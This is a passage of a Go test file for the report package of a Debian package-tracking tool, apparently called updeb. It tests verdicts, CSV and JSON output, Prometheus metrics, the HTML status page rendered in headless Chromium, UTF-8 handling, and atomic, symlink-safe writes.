package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/updeb/updeb/internal/compat"
	"github.com/updeb/updeb/internal/plan"
	"github.com/updeb/updeb/internal/repo"
	"github.com/updeb/updeb/internal/supportdata"
	"github.com/updeb/updeb/internal/testkit/eoltest"
	"github.com/updeb/updeb/internal/testkit/testenv"
	"github.com/updeb/updeb/internal/testkit/trackingfixture"
	"github.com/updeb/updeb/pkg/lockfile"
)

var now = time.Date(2026, 12, 1, 6, 0, 0, 0, time.UTC)

// fixtureReport is a report of the tracking fixture (testdata/tracking) offline on
// 2026-12-01, with a repository whose staging has a version production
// lacks and whose production Release expires within a day.
func fixtureReport(t *testing.T, withRepo bool) *Report {
	t.Helper()
	rs := trackingfixture.Recipes(t)
	c := eoltest.Cycle
	istio := c("istio", "1.30", "2026-05-18", "", "2026-11-30", "1.30.3")
	istio.SupportedKubernetes = "1.32 - 1.36"
	data, err := supportdata.New("Source: test\nAs of: 2026-10-20", map[string][]supportdata.Cycle{
		"kubernetes": {c("kubernetes", "1.36", "2026-04-22", "2027-04-28", "2027-06-28", "1.36.5"), c("kubernetes", "1.35", "2025-12-17", "2026-12-28", "2027-02-28", "1.35.9")},
		"istio":      {istio},
	})
	if err != nil {
		t.Fatal(err)
	}
	copyOf := &supportdata.Copy{Data: data, Path: "/var/lib/updeb/support/eol.yaml"}
	text := trackingfixture.Sets(t)
	p, err := plan.Make(t.Context(), rs, copyOf, plan.Options{Now: now, Sets: text, SetsFile: "release-sets.yaml"})
	if err != nil {
		t.Fatal(err)
	}
	sets, err := compat.ParseReleaseSets("release-sets.yaml", text)
	if err != nil {
		t.Fatal(err)
	}
	cr, err := compat.Check(sets, rs, compat.Inputs{Now: now, EOL: data, EOLCopy: copyOf.Name()})
	if err != nil {
		t.Fatal(err)
	}
	in := Inputs{Now: now, Plan: p, Compat: cr}
	if withRepo {
		in.Repository = &RepositoryInputs{Path: "/srv/apt", Staging: "staging", Production: "production",
			Suites: []repo.Suite{
				{Name: "production", Generation: 4, Date: now.Add(-6 * 24 * time.Hour), ValidUntil: now.Add(20 * time.Hour), Components: []string{"kubernetes136", "main"}, Architectures: []string{"amd64"}},
				{Name: "staging", Generation: 9, Date: now.Add(-time.Hour), Components: []string{"kubernetes136", "main"}, Architectures: []string{"amd64"}},
			},
			Packages: []repo.Entry{
				{Suite: "production", Component: "kubernetes136", Package: "kubernetes-client136", Version: "1.36.4-1", Architecture: "amd64"},
				{Suite: "production", Component: "main", Package: "helm", Version: "3.21.4-1", Architecture: "amd64"},
				{Suite: "staging", Component: "kubernetes136", Package: "kubernetes-client136", Version: "1.36.4-1", Architecture: "amd64"},
				{Suite: "staging", Component: "kubernetes136", Package: "kubernetes-client136", Version: "1.36.5-1", Architecture: "amd64"},
				{Suite: "staging", Component: "kubernetes136", Package: "kubernetes-client136", Version: "1.36.5-1", Architecture: "arm64"},
				{Suite: "staging", Component: "main", Package: "etcd-client", Version: "3.6.15-1", Architecture: "amd64"},
			}}
	}
	return Build(in)
}

// TestPending: the versions in staging newer than production's newest (in
// dpkg's order), or of a package production lacks, are pending; an older
// one production never got (a newer promotion superseded it) is not.
func TestPending(t *testing.T) {
	entry := func(suite, pkg, version string) repo.Entry {
		return repo.Entry{Suite: suite, Component: "main", Package: pkg, Version: version, Architecture: "amd64"}
	}
	r := repository(&RepositoryInputs{Staging: "staging", Production: "production", Packages: []repo.Entry{
		entry("production", "kubectl", "1.36.5-1"), entry("production", "kubectl", "1.36.9-1"),
		entry("staging", "kubectl", "1.36.3-1"), entry("staging", "kubectl", "1.36.9-1"), entry("staging", "kubectl", "1.36.10~rc.1-1"),
		entry("staging", "kubectl", "1.36.10-1"), entry("staging", "kubectl", "1.36.6-1"), entry("staging", "etcd", "3.6.15-1"),
	}}, now)
	want := []Pending{{"kubectl", "main", "1.36.10~rc.1-1", "1.36.9-1"}, {"kubectl", "main", "1.36.10-1", "1.36.9-1"}, {"etcd", "main", "3.6.15-1", ""}}
	if !slices.Equal(r.Pending, want) {
		t.Errorf("pending %+v\nwant %+v", r.Pending, want)
	}
}

func TestBuild(t *testing.T) {
	r := fixtureReport(t, true)
	// istio 1.30 is end-of-life in both sets: a violation first.
	if r.Verdict.Level != LevelViolation || !strings.HasPrefix(r.Verdict.Text, "VIOLATION: 2 compatibility violation(s) in release set(s) kubernetes135, kubernetes136") {
		t.Errorf("verdict %+v", r.Verdict)
	}
	if !strings.Contains(strings.Join(r.Verdict.Reasons, "\n"), "suite production's Release expires on 2026-12-02T02:00:00Z (updeb repo refresh)") {
		t.Errorf("reasons %v", r.Verdict.Reasons)
	}
	if len(r.Recipes) != 13 {
		t.Errorf("%d recipes, want every one of the fixture's 13", len(r.Recipes))
	}
	want := []Pending{{Package: "kubernetes-client136", Component: "kubernetes136", Staging: "1.36.5-1", Production: "1.36.4-1"}, {Package: "etcd-client", Component: "main", Staging: "3.6.15-1"}}
	if got := r.Repository.Pending; len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
		t.Errorf("pending %+v", got)
	}
	if c := r.Repository.Suites[1].Components[0]; c.Packages[1].Version != "1.36.5-1" || strings.Join(c.Packages[1].Architectures, " ") != "amd64 arm64" {
		t.Errorf("staging lists %+v", c)
	}
	// Every table compat read, the end-of-life data last.
	if d := r.Data[len(r.Data)-1]; len(r.Data) != 8 || d.Name != "endoflife" || d.AgeDays != 42 || d.AsOf != "2026-10-20" || r.Data[0].Name != "helm" {
		t.Errorf("data %+v", r.Data)
	}
	// Nothing wrong: ok, a recipe without a watch included (nothing
	// upstream to check).
	noWatch := &plan.Plan{Components: []plan.Component{{Name: "cfssl", Recipes: []plan.Recipe{{Name: "cfssl", NewestError: "cfssl: track: the recipe has no watch", NoWatch: true}}}}}
	ok := Build(Inputs{Now: now, Plan: noWatch, Compat: &compat.Report{}, MaxAge: 30 * 24 * time.Hour})
	if ok.Verdict.Level != LevelOK || !strings.HasPrefix(ok.Verdict.Text, "OK: ") {
		t.Errorf("verdict %+v", ok.Verdict)
	}
	// A step of the tracking run failed (report --run-ok=false): the page
	// says so, not "OK" (a refresh, a commit or a pull that fails every
	// morning would show green).
	failed := Build(Inputs{Now: now, Plan: noWatch, Compat: &compat.Report{}, MaxAge: 30 * 24 * time.Hour, RunFailed: true})
	if failed.Verdict.Level != LevelAction || failed.Verdict.Text != "ACTION NEEDED: a step of the tracking run failed (report --run-ok=false): see the job's log" {
		t.Errorf("a failed run: verdict %+v", failed.Verdict)
	}
	// Upstream that could not be checked, data past its age: not OK (the
	// page would claim what nobody checked).
	unchecked := &plan.Plan{Components: []plan.Component{{Name: "helm", Recipes: []plan.Recipe{{Name: "helm", NewestError: "helm: GitHub API: 403 rate limit exceeded"}}}}}
	u := Build(Inputs{Now: now, Plan: unchecked, Compat: &compat.Report{}})
	if u.Verdict.Level != LevelAction || u.Verdict.Text != "ACTION NEEDED: 1 recipe(s) not checked against upstream, their newest release unknown: helm (see the recipes)" {
		t.Errorf("unchecked upstream: verdict %+v", u.Verdict)
	}
	// A recipe at a release upstream withdrew: not OK, however current.
	gone := &plan.Plan{Components: []plan.Component{{Name: "helm", Recipes: []plan.Recipe{{Name: "helm", Version: "3.21.4", Newest: "3.21.4", Withdrawn: "helm 3.21.4 (tag v3.21.4): no such release of helm/helm any more"}}}}}
	g := Build(Inputs{Now: now, Plan: gone, Compat: &compat.Report{}})
	if g.Verdict.Level != LevelAction || !strings.HasPrefix(g.Verdict.Text, "ACTION NEEDED: 1 recipe(s) at a release upstream no longer lists (deleted, or made a draft again: withdrawn?): helm 3.21.4") {
		t.Errorf("withdrawn upstream: verdict %+v", g.Verdict)
	}
	stale := Build(Inputs{Now: now, Plan: &plan.Plan{}, Compat: r.Compat, MaxAge: 30 * 24 * time.Hour})
	if got := strings.Join(stale.Verdict.Reasons, "\n"); !strings.Contains(got, "data older than 30 days: ") || !strings.Contains(got, "endoflife (42 days)") {
		t.Errorf("stale data: verdict %+v", stale.Verdict)
	}
	// The repository's data file in use: a plain refresh would write the
	// state folder, which no command reads then.
	repo := *r.Compat
	repo.Sources = []compat.Source{{Name: "helm", Copy: "repository /srv/k8s/compat-data.yaml", AsOf: "2026-01-02"}}
	stale = Build(Inputs{Now: now, Plan: &plan.Plan{}, Compat: &repo, MaxAge: 30 * 24 * time.Hour})
	if got := strings.Join(stale.Verdict.Reasons, "\n"); !strings.Contains(got, ": helm (") || !strings.Contains(got, ": run 'updeb data refresh --write /srv/k8s/compat-data.yaml'") {
		t.Errorf("stale repository data: verdict %+v", stale.Verdict)
	}
	// A copy dated after today (a wrong clock) is never "older than": it
	// is stale at any age.
	repo.Sources = []compat.Source{{Name: "helm", Copy: "repository /srv/k8s/compat-data.yaml", AsOf: "9999-12-31"}}
	stale = Build(Inputs{Now: now, Plan: &plan.Plan{}, Compat: &repo, MaxAge: 30 * 24 * time.Hour})
	if got := strings.Join(stale.Verdict.Reasons, "\n"); !strings.Contains(got, "data older than 30 days: helm (") {
		t.Errorf("repository data dated after today: verdict %+v", stale.Verdict)
	}
}

// The files: JSON with the schema, CSV that parses with a header per file.
func TestWrite(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "site")
	r := fixtureReport(t, true)
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(dir, "report.json"))
	var v map[string]any
	if err := json.Unmarshal(b, &v); err != nil || v["schema"] != Schema || v["verdict"].(map[string]any)["level"] != "violation" {
		t.Errorf("report.json: %v %v", err, v["schema"])
	}
	for name, header := range map[string]string{"recipes.csv": "recipe,component,version,newest_in_track", "actions.csv": "kind,component,recipe",
		"sets.csv": "set,kubernetes,component,version", "data.csv": "table,copy,as_of,age_days", "suites.csv": "suite,generation,date,valid_until",
		"packages.csv": "suite,component,package,version,architectures", "pending.csv": "package,component,staging,production"} {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil || len(rows) < 2 || !strings.HasPrefix(strings.Join(rows[0], ","), header) {
			t.Errorf("%s: %v %v", name, err, rows)
		}
	}
	page, _ := os.ReadFile(filepath.Join(dir, "index.html"))
	for _, forbidden := range []string{"<script", "<link", "src=", "@import", "url(", "http-equiv"} {
		if bytes.Contains(page, []byte(forbidden)) {
			t.Errorf("the page is not self-contained: it has %q", forbidden)
		}
	}

	// A link planted in the folder is replaced, never followed; what is
	// in the way is named.
	victim := filepath.Join(t.TempDir(), "victim")
	os.WriteFile(victim, []byte("keep"), 0o644)
	planted := filepath.Join(t.TempDir(), "site")
	os.MkdirAll(planted, 0o755)
	os.Symlink(victim, filepath.Join(planted, "report.json"))
	if err := Write(context.Background(), planted, r); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(victim); string(b) != "keep" {
		t.Errorf("the write followed a planted link: %q", b)
	}
	if fi, err := os.Lstat(filepath.Join(planted, "report.json")); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("report.json is not a file: %v %v", fi, err)
	}
	blocked := filepath.Join(t.TempDir(), "site")
	os.MkdirAll(filepath.Join(blocked, "index.html"), 0o755)
	if err := Write(context.Background(), blocked, r); err == nil || !strings.Contains(err.Error(), filepath.Join(blocked, "index.html")+": ") {
		t.Errorf("a folder where index.html goes: %v", err)
	}
	notDir := filepath.Join(t.TempDir(), "file")
	os.WriteFile(notDir, nil, 0o644)
	if err := Write(context.Background(), notDir, r); err == nil || !strings.Contains(err.Error(), "report folder "+notDir+": ") {
		t.Errorf("a file where the folder goes: %v", err)
	}
}

// The page and its data files are one run's: a Write that cannot replace one
// of them (here a folder where the last one goes) replaces none, two Writes
// at once take turns on the folder, and the temporary files a killed Write
// left in the served folder go with the next Write.
func TestWriteReplacesAllOrNothing(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "site")
	r := fixtureReport(t, true)
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	snapshot := func() map[string]string {
		m := map[string]string{}
		for _, name := range Files {
			b, _ := os.ReadFile(filepath.Join(dir, name))
			m[name] = string(b)
		}
		return m
	}
	before := snapshot()
	last := filepath.Join(dir, Files[len(Files)-1])
	os.Remove(last)
	os.MkdirAll(filepath.Join(last, "x"), 0o755)
	next := fixtureReport(t, false)
	if err := Write(context.Background(), dir, next); err == nil || !strings.Contains(err.Error(), last) {
		t.Fatalf("a folder where %s goes: %v", last, err)
	}
	for name, old := range snapshot() {
		if name != filepath.Base(last) && old != before[name] {
			t.Errorf("%s was replaced by a Write that failed", name)
		}
	}
	os.RemoveAll(last)

	leftover := filepath.Join(dir, ".index.html.tmp-123")
	os.WriteFile(leftover, []byte("<html>half"), 0o644)
	lock, err := lockfile.AcquireDir(context.Background(), dir, 0)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- Write(context.Background(), dir, next) }()
	select {
	case err := <-done:
		t.Fatalf("Write finished while another held the folder: %v", err)
	case <-time.After(300 * time.Millisecond):
	}
	ctx, cancel := context.WithCancel(context.Background())
	go func() { done <- Write(ctx, dir, next) }()
	time.Sleep(100 * time.Millisecond)
	cancel() // an interrupt stops the wait
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) || !strings.Contains(err.Error(), "another updeb process holds it") {
			t.Fatalf("a Write interrupted while waiting for the folder: %v", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("a Write waiting for the folder's lock ignores an interrupt")
	}
	lock.Unlock()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(leftover); !os.IsNotExist(err) {
		t.Errorf("the temporary file of a killed Write stays in the served folder: %v", err)
	}
}

// The status page is served by a web server running as another user: the
// folders Write makes are 0755 and the files 0644 whatever the umask.
func TestWriteReadableWhateverTheUmask(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "www", "updeb")
	r := fixtureReport(t, true)
	old := syscall.Umask(0o077)
	err := Write(context.Background(), dir, r)
	syscall.Umask(old)
	if err != nil {
		t.Fatal(err)
	}
	testenv.WorldReadable(t, filepath.Dir(dir))
}

// TestMetricsPromtool: the metrics file passes promtool check metrics (the
// text format and Prometheus' naming conventions) and says what an alert
// needs; the last success is carried over a failed run.
func TestMetricsPromtool(t *testing.T) {
	r := fixtureReport(t, true)
	m := Metrics(r, Run{OK: true})
	promtoolCheck(t, m)
	for _, want := range []string{
		`updeb_release_valid_until_timestamp_seconds{suite="production"} 1796176800` + "\n",
		`updeb_release_valid_remaining_seconds{suite="production"} 72000` + "\n",
		"updeb_recipes_behind_upstream 1\n", // offline: kubernetes-1.36 1.36.4 -> 1.36.5
		`updeb_recipe_behind_upstream{recipe="kubernetes-1.36"} 1` + "\n",
		"updeb_release_sets_violating 2\n", `updeb_release_set_violations{set="kubernetes136"} 1` + "\n",
		"updeb_components_end_of_life 1\n",
		`updeb_data_table_age_seconds{table="endoflife",copy="refreshed /var/lib/updeb/support/eol.yaml"} 3650400` + "\n",
		`updeb_plan_actions{kind="bump"} `,
		"updeb_tracking_last_run_timestamp_seconds 1796104800\n", "updeb_tracking_last_run_success 1\n",
		"updeb_tracking_last_success_timestamp_seconds 1796104800\n",
	} {
		if !bytes.Contains(m, []byte(want)) {
			t.Errorf("metrics lack %q:\n%s", want, m)
		}
	}
	if got := PreviousSuccess(m); !got.Equal(now) {
		t.Errorf("previous success %v", got)
	}
	later := Build(Inputs{Now: now.Add(24 * time.Hour), Plan: r.Plan, Compat: r.Compat})
	failed := Metrics(later, Run{OK: false, LastSuccess: PreviousSuccess(m)})
	if !bytes.Contains(failed, []byte("updeb_tracking_last_success_timestamp_seconds 1796104800\n")) || !bytes.Contains(failed, []byte("updeb_tracking_last_run_success 0\n")) ||
		!bytes.Contains(failed, []byte("updeb_tracking_last_run_timestamp_seconds 1796191200\n")) {
		t.Errorf("a failed run:\n%s", failed)
	}
	if first := Metrics(later, Run{OK: false}); !bytes.Contains(first, []byte("updeb_tracking_last_success_timestamp_seconds 0\n")) {
		t.Errorf("no success yet:\n%s", first)
	}
	if !PreviousSuccess([]byte("garbage\nupdeb_tracking_last_success_timestamp_seconds x\n")).IsZero() {
		t.Error("a garbled file gave a last success")
	}
}

// A run whose report could not be made: promtool takes the file, every
// family is there (so "not collected" shows), no sample but the run's, and
// the run failed with the last success carried over.
func TestFailedMetrics(t *testing.T) {
	last := now.Add(-48 * time.Hour)
	m := FailedMetrics(now, Run{OK: true, LastSuccess: last})
	promtoolCheck(t, m)
	full := Metrics(fixtureReport(t, true), Run{OK: true})
	if got, want := regexp.MustCompile(`(?m)^# TYPE \S+`).FindAll(m, -1), regexp.MustCompile(`(?m)^# TYPE \S+`).FindAll(full, -1); len(got) != len(want) {
		t.Errorf("%d families, want all %d", len(got), len(want))
	}
	samples := regexp.MustCompile(`(?m)^[a-z_]+(\{[^}]*\})? \S+$`).FindAll(m, -1)
	want := []string{"updeb_tracking_last_run_timestamp_seconds 1796104800", "updeb_tracking_last_run_success 0", "updeb_tracking_last_success_timestamp_seconds 1795932000"}
	if len(samples) != len(want) {
		t.Fatalf("samples %q, want %q", samples, want)
	}
	for i := range want {
		if string(samples[i]) != want[i] {
			t.Errorf("sample %q, want %q", samples[i], want[i])
		}
	}
}

// probe is a script the test adds to a copy of the page (the page itself
// has none): it records, as the body's data-probe attribute, what a person
// on a 1366x768 laptop screen would see: whether the page scrolls sideways,
// where the verdict is and in what colour, and what comes first.
const probe = `<script>
window.addEventListener("load", function () {
  var v = document.getElementById("verdict");
  var r = v.getBoundingClientRect();
  var first = document.body.children[1];
  var out = {
    overflow: document.documentElement.scrollWidth > window.innerWidth,
    width: window.innerWidth,
    scrollWidth: document.documentElement.scrollWidth,
    verdictTop: Math.round(r.top), verdictBottom: Math.round(r.bottom),
    verdictBackground: getComputedStyle(v).backgroundColor,
    verdictText: v.querySelector("h2").textContent,
    secondElement: first.id
  };
  document.body.setAttribute("data-probe", JSON.stringify(out));
});
</script>`

// TestPageInChromium renders the page in headless Chromium at a laptop's
// 1366x768 and checks it as a person would read it: the verdict first,
// above the fold, in colour and in words; no sideways scrolling; the
// matrix, the recipes, the data tables and the repository all there; and a
// screenshot that is more than a blank page.
func TestPageInChromium(t *testing.T) {
	dir := t.TempDir()
	if err := Write(context.Background(), dir, fixtureReport(t, true)); err != nil {
		t.Fatal(err)
	}
	page, _ := os.ReadFile(filepath.Join(dir, "index.html"))
	probed := filepath.Join(dir, "probed.html")
	os.WriteFile(probed, bytes.Replace(page, []byte("</body>"), []byte(probe+"</body>"), 1), 0o644)
	dom := string(testenv.Chromium(t, probed, "--window-size=1366,768", "--dump-dom", "--virtual-time-budget=5000"))
	m := regexp.MustCompile(`data-probe="([^"]*)"`).FindStringSubmatch(dom)
	if m == nil {
		t.Fatalf("the probe did not run:\n%.2000s", dom)
	}
	var seen struct {
		Overflow                   bool
		Width, ScrollWidth         int
		VerdictTop, VerdictBottom  int
		VerdictBackground, Verdict string
		VerdictText, SecondElement string
	}
	if err := json.Unmarshal([]byte(strings.ReplaceAll(m[1], "&quot;", `"`)), &seen); err != nil {
		t.Fatalf("%v: %s", err, m[1])
	}
	if seen.Overflow || seen.Width != 1366 {
		t.Errorf("the page scrolls sideways at %dpx: %d px wide", seen.Width, seen.ScrollWidth)
	}
	if seen.SecondElement != "verdict" || seen.VerdictTop < 0 || seen.VerdictBottom > 768 {
		t.Errorf("the verdict is not first and above the fold: after the title comes %q, verdict at %d-%d px", seen.SecondElement, seen.VerdictTop, seen.VerdictBottom)
	}
	if seen.VerdictBackground != "rgb(248, 201, 201)" || !strings.HasPrefix(seen.VerdictText, "VIOLATION: ") {
		t.Errorf("the verdict is not red and worded: %s %q", seen.VerdictBackground, seen.VerdictText)
	}
	for _, want := range []string{`<table class="matrix" id="matrix">`, `<tr data-recipe="kubernetes-1.36"><td>kubernetes-1.36</td><td>1.36.4</td><td>1.36.5</td>`,
		`<td class="state-behind">behind</td>`, `<td class="state-expires-soon">expires in 20 hours: refresh it</td>`,
		`<td>kubernetes-client136</td><td>kubernetes136</td><td>1.36.5-1</td><td>1.36.4-1</td>`, `<section id="plan">`, `<td>endoflife</td>`} {
		if !strings.Contains(dom, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	png := filepath.Join(dir, "page.png")
	testenv.Chromium(t, filepath.Join(dir, "index.html"), "--screenshot="+png, "--window-size=1366,768", "--hide-scrollbars")
	b, err := os.ReadFile(png)
	if err != nil || !bytes.HasPrefix(b, []byte("\x89PNG\r\n\x1a\n")) || len(b) < 30_000 {
		t.Errorf("screenshot: %v, %d bytes (want a PNG over 30 KB, not a blank page)", err, len(b))
	}
	if dst := os.Getenv("REPORT_SCREENSHOT"); dst != "" { // for a person to look at
		_ = os.WriteFile(dst, b, 0o644)
	}
}

// TestMetricsHostileLabels: label values the report takes from paths and
// names (a data copy's path under --state, a suite) reach the metrics file
// escaped, as valid UTF-8: promtool (and node_exporter's textfile collector,
// which drops the whole file) refuses a label value that is not UTF-8.
func TestMetricsHostileLabels(t *testing.T) {
	r := fixtureReport(t, true)
	r.Data[0].Copy = "refreshed /var/lib/up\xffdeb \"q\" back\\slash\nline/support/eol.yaml"
	r.Repository.Suites[0].Name = "prod\xe9"
	m := Metrics(r, Run{OK: true})
	promtoolCheck(t, m)
	for _, want := range []string{`copy="refreshed /var/lib/up` + "\uFFFD" + `deb \"q\" back\\slash\nline/support/eol.yaml"`, `{suite="prod` + "\uFFFD" + `"}`} {
		if !bytes.Contains(m, []byte(want)) {
			t.Errorf("metrics lack %s:\n%s", want, m)
		}
	}
}

// A suite signed by two keys during a rotation, one of which has expired:
// apt takes it from a client that trusts the other (action: give clients
// the new keyring), and refuses it only once every key that signs it has
// expired (violation).
func TestVerdictExpiredKeyInRotation(t *testing.T) {
	now := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	verdict := func(keys ...repo.SigningKey) Verdict {
		in := Inputs{Now: now, Plan: &plan.Plan{}, Compat: &compat.Report{},
			Repository: &RepositoryInputs{Suites: []repo.Suite{{Name: "production", Date: now.AddDate(0, 0, -1), SigningKeys: keys}}}}
		return Build(in).Verdict
	}
	old := repo.SigningKey{Fingerprint: "OLD", Signer: "OLD", Expires: now.AddDate(0, 0, -2)}
	if v := verdict(old, repo.SigningKey{Fingerprint: "NEW", Signer: "NEW"}); v.Level != LevelAction || !strings.Contains(strings.Join(v.Reasons, "\n"), "clients that trust only it refuse") {
		t.Errorf("an expired key beside one that does not expire: %+v", v)
	}
	if v := verdict(old, repo.SigningKey{Fingerprint: "NEW", Signer: "NEW", Expires: now.AddDate(1, 0, 0)}); v.Level != LevelAction {
		t.Errorf("an expired key beside one valid for a year: %+v", v)
	}
	if v := verdict(old); v.Level != LevelViolation || !strings.Contains(strings.Join(v.Reasons, "\n"), "apt refuses the suite") {
		t.Errorf("the only key expired: %+v", v)
	}
	if v := verdict(old, repo.SigningKey{Fingerprint: "OTHER", Signer: "OTHER", Expires: now.AddDate(0, 0, -1)}); v.Level != LevelViolation {
		t.Errorf("both keys expired: %+v", v)
	}
}

// report.json's "compat" is updeb compat --json's report, whose empty
// lists are [] (docs/scripting.md): without a release set file (a recipes
// repository that has none yet) its sets and components too, so that
// `jq '.compat.sets[]'` gives nothing rather than failing on null.
func TestJSONNoReleaseSets(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJSON(&b, noSetsReport(t)); err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b.Bytes(), []byte("null")) {
		t.Errorf("report.json has a null:\n%s", b.Bytes())
	}
}

// A repository without the suite --staging names (its suites are not
// called staging and production, and --staging was not given) has nothing
// pending because nothing was compared: the page says so, not that
// production has every version staging has.
func TestPageNoStagingSuite(t *testing.T) {
	in := Inputs{Now: now, Plan: &plan.Plan{}, Compat: &compat.Report{}, Repository: &RepositoryInputs{Path: "/srv/apt", Staging: "staging", Production: "production",
		Suites:   []repo.Suite{{Name: "bookworm-wikimedia", Generation: 1, Date: now, Components: []string{"main"}}},
		Packages: []repo.Entry{{Suite: "bookworm-wikimedia", Component: "main", Package: "helm3", Version: "3.21.4-1", Architecture: "amd64"}}}}
	var b bytes.Buffer
	if err := WriteHTML(&b, Build(in)); err != nil {
		t.Fatal(err)
	}
	if page := b.String(); strings.Contains(page, "has every version") || !strings.Contains(page, "the repository has no suite staging") {
		t.Errorf("the page on a repository without a staging suite:\n%s", page)
	}
}

// A recipe at a release upstream no longer lists: its row on the page says
// so in amber, as the verdict does, not "current" in green (or, when a newer
// release is out too, only "behind").
func TestPageWithdrawnRecipe(t *testing.T) {
	for _, tc := range []struct {
		newest, want string
	}{
		{"3.21.4", `<td class="state-behind">3.21.4 withdrawn upstream?</td>`},
		{"3.21.5", `<td class="state-behind">behind; 3.21.4 withdrawn upstream?</td>`},
	} {
		gone := &plan.Plan{Components: []plan.Component{{Name: "helm", Recipes: []plan.Recipe{{Name: "helm", Version: "3.21.4", Newest: tc.newest,
			Behind: tc.newest != "3.21.4", Withdrawn: "helm 3.21.4 (tag v3.21.4): no such release of helm/helm any more"}}}}}
		var b bytes.Buffer
		if err := WriteHTML(&b, Build(Inputs{Now: now, Plan: gone, Compat: &compat.Report{}})); err != nil {
			t.Fatal(err)
		}
		if page := b.String(); !strings.Contains(page, `<tr data-recipe="helm"><td>helm</td><td>3.21.4</td><td>`+tc.newest+`</td><td></td>`+tc.want) {
			t.Errorf("newest %s: the withdrawn recipe's row is not %s:\n%s", tc.newest, tc.want, page)
		}
	}
}

// A Release that expires within the hour says in how many minutes, not
// "expires in 0 hours" (which reads as expired already).
func TestPageExpiresWithinTheHour(t *testing.T) {
	in := Inputs{Now: now, Plan: &plan.Plan{}, Compat: &compat.Report{}, Repository: &RepositoryInputs{Path: "/srv/apt", Staging: "staging", Production: "production",
		Suites: []repo.Suite{{Name: "production", Generation: 1, Date: now.Add(-time.Hour), ValidUntil: now.Add(25 * time.Minute), Components: []string{"main"}}}}}
	var b bytes.Buffer
	if err := WriteHTML(&b, Build(in)); err != nil {
		t.Fatal(err)
	}
	if page := b.String(); !strings.Contains(page, `<td class="state-expires-soon">expires in 25 minute(s): refresh it</td>`) {
		t.Errorf("a Release that expires in 25 minutes:\n%s", page)
	}
	// Within two hours: "1 hour", not "1 hours".
	in.Repository.Suites[0].ValidUntil = now.Add(90 * time.Minute)
	b.Reset()
	if err := WriteHTML(&b, Build(in)); err != nil {
		t.Fatal(err)
	}
	if page := b.String(); !strings.Contains(page, `<td class="state-expires-soon">expires in 1 hour: refresh it</td>`) {
		t.Errorf("a Release that expires in 90 minutes:\n%s", page)
	}
}

// Every file Write writes is UTF-8, whatever bytes a server's message (a
// proxy's error page in Latin-1) or a path held: a UTF-8 reader (Python's
// csv module, a browser told charset=utf-8) takes them all.
func TestWriteValidUTF8(t *testing.T) {
	r := fixtureReport(t, true)
	r.Recipes[0].Unknown = "GitHub API https://api.github.com/repos/helm/helm/releases: HTTP 403: <html>Zugriff verweigert f\xfcr diese Seite</html>"
	r.Data[0].Copy = "refreshed /var/lib/up\xffdeb/support/eol.yaml"
	dir := t.TempDir()
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	for _, name := range Files {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil || !utf8.Valid(b) {
			t.Errorf("%s is not UTF-8 (%v)", name, err)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "recipes.csv")); !bytes.Contains(b, []byte("verweigert f\uFFFDr diese")) {
		t.Errorf("recipes.csv:\n%s", b)
	}
}

// A data table's row on the page is marked old by data: max-age-days:, as
// the verdict is, not by a fixed 30 days: 119 days is fine under 200, 20
// days is old under 7, and a table dated after today is stale whatever its
// age says.
func TestPageDataAgeByMaxAge(t *testing.T) {
	future := time.Now().AddDate(0, 1, 0).Format(time.DateOnly) // after the clock's today, as the check reads it
	cr := &compat.Report{Sources: []compat.Source{{Name: "helm", Copy: "bundled", AsOf: "2026-08-04"}, {Name: "cilium", Copy: "bundled", AsOf: "2026-11-11"}, {Name: "calico", Copy: "bundled", AsOf: future}}}
	page := func(maxDays int) (string, Verdict) {
		r := Build(Inputs{Now: now, Plan: &plan.Plan{}, Compat: cr, MaxAge: time.Duration(maxDays) * 24 * time.Hour})
		var b bytes.Buffer
		if err := WriteHTML(&b, r); err != nil {
			t.Fatal(err)
		}
		return b.String(), r.Verdict
	}
	p, v := page(200)
	if !strings.Contains(p, `<td>helm</td><td>bundled</td><td>2026-08-04</td><td class="state-ok">119 day(s)</td>`) || strings.Contains(v.Text, "helm") {
		t.Errorf("119 days under max-age-days 200: %s\n%s", v.Text, p)
	}
	p, v = page(7)
	if !strings.Contains(p, `<td>cilium</td><td>bundled</td><td>2026-11-11</td><td class="state-old">20 day(s): old (updeb data refresh)</td>`) || !strings.Contains(v.Text, "cilium (20 days)") {
		t.Errorf("20 days under max-age-days 7: %s\n%s", v.Text, p)
	}
	if !strings.Contains(p, `<td>calico</td><td>bundled</td><td>`+future+`</td><td class="state-old">dated after today (updeb data refresh)</td>`) {
		t.Errorf("a table dated after today:\n%s", p)
	}
	// The verdict does not call it older than 7 days at -32 days.
	if !strings.Contains(v.Text, "calico (as of "+future+", after today: written with a wrong clock)") || strings.Contains(v.Text, "calico (-") {
		t.Errorf("the verdict on a table dated after today: %s", v.Text)
	}
}

// A refreshed table's age counts from the time it was fetched, as updeb
// data status counts it, not from the start of its day: fetched at 20:00
// on 2026-11-01, it is 29.4 days old on 2026-12-01 at 06:00, not stale
